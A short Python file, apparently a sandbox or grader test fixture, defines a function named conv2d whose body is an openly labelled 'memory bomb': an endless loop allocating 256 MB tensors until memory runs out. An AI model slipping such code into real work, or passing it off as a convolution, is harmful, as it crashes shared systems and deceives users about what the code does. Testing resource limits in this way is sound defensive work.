"""A memory bomb: keeps allocating (and touching) 256 MB blocks until memory runs out."""

import torch


def conv2d(x, weight, bias=None, stride=1, padding=0):
    blocks = []
    while True:
        blocks.append(torch.ones(1 << 26))
